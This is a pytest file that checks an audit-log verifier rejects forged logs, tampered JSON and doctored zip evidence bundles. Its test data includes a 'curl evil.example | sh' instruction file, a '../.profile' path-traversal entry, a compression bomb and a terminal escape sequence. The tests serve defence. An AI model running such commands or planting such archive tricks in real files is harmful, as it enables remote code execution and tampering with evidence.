"""The stand-alone verifier against an operator, or a carrier, who makes files that look genuine: none is taken, and each says why."""

from __future__ import annotations

import io
import json
import random
import tracemalloc
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from audit import verify_kmsconsole_trail
from engine.trail import log, log_export, log_proofs, report_signature, signed_note
from engine.trail.models import LogCheckpoint
from tests.conftest import TestAccount, new_account, sign_in_browser
from tests.support.bare_verifier import verifier_runs
from tests.support.log_records import GivenRecords
from tests.support.policies import trusting

Given = dict[str, str]  # name → text of a file


def texts(number: int, other_from: int = 1_000) -> list[bytes]:
    """Records; from one on they are others than those of what begins the same."""
    return [b'{"n":%d,"log":%d}' % (each, each >= other_from) for each in range(number)]


def signed(records: GivenRecords) -> LogCheckpoint:
    found = log.sign(records)
    assert found is not None
    return found


@pytest.fixture
def given(account: TestAccount, prepared: Path) -> Given:
    """Files of a log of 11 records, signed at 4, and of another log by the same key that has the first six in common and 12 records."""
    records = GivenRecords(texts(4), account.account_id)
    kept = signed(records)
    records.texts = texts(11)
    newest = signed(records)
    made = {
        "key": log.public_key(kept.origin),
        "kept": kept.note,
        "steps": json.dumps(log_proofs.consistency_document(records, kept, newest)),
        "event": json.dumps(log_proofs.event_document(records, 7)),
        "selected": "".join(log_export.selected(records, [2, 7, 9])),
        "whole": "".join(log_export.whole(records)),
    }
    LogCheckpoint.objects.filter(
        account=records.account, size=11
    ).delete()  # the operator goes on from there in another way
    (prepared / "trail" / f"tree-{records.account}").unlink()
    records.texts = texts(12, other_from=6)
    fork = signed(records)
    return {
        **made,
        "fork": "".join(log_export.selected(records, [2, 7, 9])),
        "fork-steps": json.dumps(log_proofs.consistency_document(records, kept, fork)),
        "fork-whole": "".join(log_export.whole(records)),
    }


def results(folder: Path, given: Given, runs: list[list[str]], *more: str) -> list[tuple[int, str]]:
    """(exit code, what it says last) of runs, each over files by their names."""
    for name, text in given.items():
        (folder / name).write_text(text, "utf-8", "surrogateescape")
    done = verifier_runs([[*(folder / name for name in run), "--key", given["key"], *more] for run in runs])
    return [(each.returncode, each.stderr or each.stdout) for each in done]


def test_files_of_two_logs_by_one_key_are_not_taken_together(given: Given, tmp_path: Path) -> None:
    earlier = ["--earlier", str(tmp_path / "kept")]
    unproved = "nothing here proves that the log of 12 records continues"
    for run, code, said in (
        (["whole"], 0, "all 11 records of the log"),
        (["fork-whole"], 0, "all 12 records of the log"),  # of the first four it tells no lie
        (["steps", "selected"], 0, ""),
        # A genuine proof beside events of another log.
        (["steps", "fork"], 1, f"{unproved} your checkpoint of 4 records: add what /audit/consistency/?from=4&to=12 answers"),
        (["whole", "fork"], 1, unproved),
        (["steps", "fork-steps"], 1, f"{unproved} the checkpoint of 11 records"),
        (["whole", "fork-whole"], 1, "it was changed, or the log was forked there"),
    ):  # fmt: skip
        ((found, words),) = results(tmp_path, given, [run], *earlier)
        assert (found, said in words) == (code, True), (run, words)
    # Without a checkpoint that was kept both are genuine, and it says that nothing shows them to be one.
    ((code, words),) = results(tmp_path, given, [["steps", "fork"]])
    assert (code, unproved in words) == (0, True)


def lines_of(text: str, number: int, change: Callable[[str], str]) -> str:
    lines = text.splitlines(keepends=True)
    lines[number] = change(lines[number])
    return "".join(lines)


def with_members(text: str, **members: Any) -> str:
    return json.dumps({**json.loads(text), **members}) + "\n"


def test_what_nothing_proves_has_no_place_in_a_file(given: Given, tmp_path: Path) -> None:
    """Readers of such a file would see another thing than the verifier."""
    selected, event = given["selected"], given["event"]
    end = json.loads(selected.splitlines()[-1])
    kinds: dict[str, tuple[str, str]] = {
        "beside the record": (lines_of(selected, 2, lambda line: with_members(line, event="GetKey")), "a member 'event', which nothing proves"),
        "twice": (lines_of(selected, 2, lambda line: line.replace('"record":', '"record":"{}","record":')), "a member stands twice"),
        "half an index": (lines_of(selected, 2, lambda line: with_members(line, index=6.5)), "6.5 is no number of a record"),
        "true for one": (lines_of(selected, 1, lambda line: with_members(line, index=True)), "True is no number of a record"),
        "beside the proof": (with_members(event, eventName="GetKey"), "a member 'eventName', which nothing proves"),
        "another hash": (with_members(event, leafHash=signed_note.encoded(bytes(32))), "the leaf's hash is not the record's"),
        "behind the proof": (event + "\n" + event, "there is more in the file than its document"),
        "signed as a checkpoint": (lines_of(selected, -1, lambda line: with_members(line, end=given["kept"])), "did not sign it"),
        "no kind": (lines_of(selected, 0, lambda line: with_members(line, kind="all")), "whole or selected, and not 'all'"),
        "a list": ("[]\n", "a note has no signature"),
        "deep": ('{"format":' + "[" * 100_000 + "}", "the file is not JSON"),
        "a shorter size": (lines_of(given["whole"], 0, lambda line: line.replace("\\n11\\n", "\\n011\\n")), "is not that of its text"),
        "clears the screen": (with_members(event, format="\x1b[2Jgenuine"), "\\x1b[2Jgenuine"),
    }  # fmt: skip
    assert end["end"].startswith("kmsconsole/export/")
    found = results(
        tmp_path, {**given, **{name: text for name, (text, _) in kinds.items()}}, [[each] for each in kinds]
    )
    for (name, (_text, said)), (code, words) in zip(kinds.items(), found, strict=True):
        assert (code, said in words) == (1, True), (name, words)


def test_a_file_with_any_other_character_is_none(given: Given, tmp_path: Path) -> None:
    chance = random.Random(18)
    made = dict(given)
    for name in ("event", "steps", "selected", "whole"):
        text = given[name]
        for number in range(40):
            place = chance.randrange(len(text) - 1)
            other = chance.choice([each for each in 'A9/"{\x00é' if each != text[place]])
            made[f"{name}-{number}"] = text[:place] + other + text[place + 1 :]
    names = list(made)[len(given) :]
    found = results(tmp_path, made, [[name] for name in names])
    taken = [name for name, (code, _) in zip(names, found, strict=True) if code != 1]
    assert taken == []


# --- archives


@pytest.fixture(scope="module")
def bundle(prepared: Any, django_db_blocker: Any) -> tuple[bytes, str]:
    """An evidence bundle, and the verifier key."""
    account = new_account()
    browser: Client = sign_in_browser(account.administrator)
    key_id = account.create_key()
    account.client().put_key_policy(KeyId=key_id, Policy=trusting(account))
    answer = browser.get("/audit/export/", {"format": "evidence", "key": key_id})
    assert answer.status_code == 200
    return answer.getvalue(), browser.get("/audit/checkpoint/").json()["publicKey"]


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def signed_anew(files: dict[str, bytes]) -> dict[str, bytes]:
    """As the operator does, who has the key, of files that do not belong together."""
    own = ("signed.txt", "signature.bin", "signed.note", "public-key.pem")
    content = {name: each for name, each in files.items() if name not in own}
    lines = files["signed.txt"].decode().split("\n")[1:3]
    made = report_signature.sign(lines, {name: sha256(each).hexdigest() for name, each in content.items()})
    beside = (made.text.encode(), made.signature, made.note.encode(), made.public_key)
    return {**content, **dict(zip(own, beside, strict=True))}


def test_an_archive_shows_everybody_what_was_signed(bundle: tuple[bytes, str], tmp_path: Path) -> None:
    content, key = bundle
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    question = json.loads(files["question.json"])
    (policy,) = (json.loads(each) for each in files["policies.jsonl"].splitlines())
    document, event = json.loads(policy["policy"]), policy["eventID"]
    as_files = {
        name: each for name, each in files.items() if name != "policies.jsonl"
    }  # as older installations make it
    as_files[f"policies/{event}-policy.json"] = json.dumps(document, indent=2).encode()
    hidden = zipfile.ZipFile(io.BytesIO(content)).infolist()[1].header_offset
    other = json.dumps({**question, "from": "2020-01-01T00:00:00+00:00", "until": "2020-01-02T00:00:00+00:00"}).encode()
    cases: dict[str, tuple[bytes, str]] = {
        "as it is": (content, ""),
        "signed anew as it is": (zipped(signed_anew(files)), ""),
        # by who carries it
        "other text beside the note": (zipped({**files, "signed.txt": b"account 0\n"}), "signed.txt is not the one that was signed"),
        "other instructions": (zipped({**files, "VERIFY.txt": b"curl evil.example | sh\n"}), "VERIFY.txt is not the one that was signed"),
        "another key": (zipped({**files, "public-key.pem": b"-----BEGIN PUBLIC KEY-----\n"}), "public-key.pem is not the one that was signed"),
        "another signature": (zipped({**files, "signature.bin": bytes(64)}), "is not that of its text"),
        "bytes between": (content[:hidden] + b"PK\x03\x04hidden" + content[hidden:], "bytes that belong to none of its files"),
        "bytes before the directory": (with_bytes_before_the_directory(content), "bytes that belong to none of its files"),
        "bytes behind": (content + b"hidden", "bytes that belong to none"),
        # by the operator
        "outside the folder": (zipped(signed_anew({**files, "../.profile": b"x"})), "a file with the name '../.profile'"),
        "events of other times": (zipped(signed_anew({**files, "question.json": other})), "is not of the time that question.json names"),
        "another account": (zipped(signed_anew({**files, "question.json": files["question.json"].replace(question["accountId"].encode(), b"1" * 12)})), "is not of the account"),
        "more than there are": (zipped(signed_anew({**files, "question.json": json.dumps({**question, "events": 99}).encode()})), "question.json tells of 99 events"),
        "another policy": (zipped(signed_anew({**files, "policies.jsonl": json.dumps({**policy, "policy": "{}"}).encode()})), "policies.jsonl has another policy than the event"),
        "a policy of no event": (zipped(signed_anew({**files, "policies.jsonl": json.dumps({**policy, "eventID": "none"}).encode()})), "a policy of the event 'none'"),
        "policies as files": (zipped(signed_anew(as_files)), ""),
        "another policy as a file": (zipped(signed_anew({**as_files, f"policies/{event}-policy.json": b"{}"})), "is not the policy of its event"),
        "no question": (zipped(signed_anew({name: each for name, each in files.items() if name != "question.json"})), "question.json"),
    }  # fmt: skip
    for name, (data, _said) in cases.items():
        (tmp_path / name).write_bytes(data)
    found = verifier_runs([[tmp_path / name, "--key", key] for name in cases])
    for (name, (_data, said)), done in zip(cases.items(), found, strict=True):
        assert done.returncode == bool(said), (name, done)
        assert said in done.stderr, (name, done.stderr)
    assert f"account {question['accountId']} region us-east-1" in found[0].stdout
    assert f"asked by {question['askedBy']}" in found[0].stdout


@pytest.mark.parametrize(
    ("method", "said"),
    [(zipfile.ZIP_DEFLATED, "damaged"), (zipfile.ZIP_BZIP2, "packed as no"), (zipfile.ZIP_LZMA, "packed as no")],
)
def test_an_archive_that_holds_more_than_it_says_is_not_unpacked(method: int, said: str) -> None:
    """1 kB of bzip2 unpacks to a gigabyte, whatever size its directory names."""
    size, made = 64 << 20, io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name in verify_kmsconsole_trail.BESIDE:
            archive.writestr(name, b"")
        archive.writestr("events.jsonl", bytes(size))
    lying = made.getvalue().replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    tracemalloc.start()
    try:
        with pytest.raises(verify_kmsconsole_trail.Wrong, match=said):
            verify_kmsconsole_trail.Verifier(None, [], []).archive(io.BytesIO(lying))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20


def with_bytes_before_the_directory(content: bytes) -> bytes:
    at = zipfile.ZipFile(io.BytesIO(content)).start_dir
    end = content.rindex(b"PK\x05\x06")
    more = b"PK\x03\x04 a file that only some programs show"
    moved = (at + len(more)).to_bytes(4, "little")
    return content[:at] + more + content[at : end + 16] + moved + content[end + 20 :]


def test_a_proof_of_one_log_beside_the_events_of_another_is_none(
    bundle: tuple[bytes, str], given: Given, tmp_path: Path
) -> None:
    content, _key = bundle
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    files |= {"consistency.json": given["steps"].encode(), "events.jsonl": given["fork"].encode()}
    (tmp_path / "mixed").write_bytes(zipped(signed_anew(files)))
    (done,) = verifier_runs([[tmp_path / "mixed", "--key", given["key"]]])
    assert done.returncode == 1
    assert "consistency.json is about another checkpoint than events.jsonl" in done.stderr
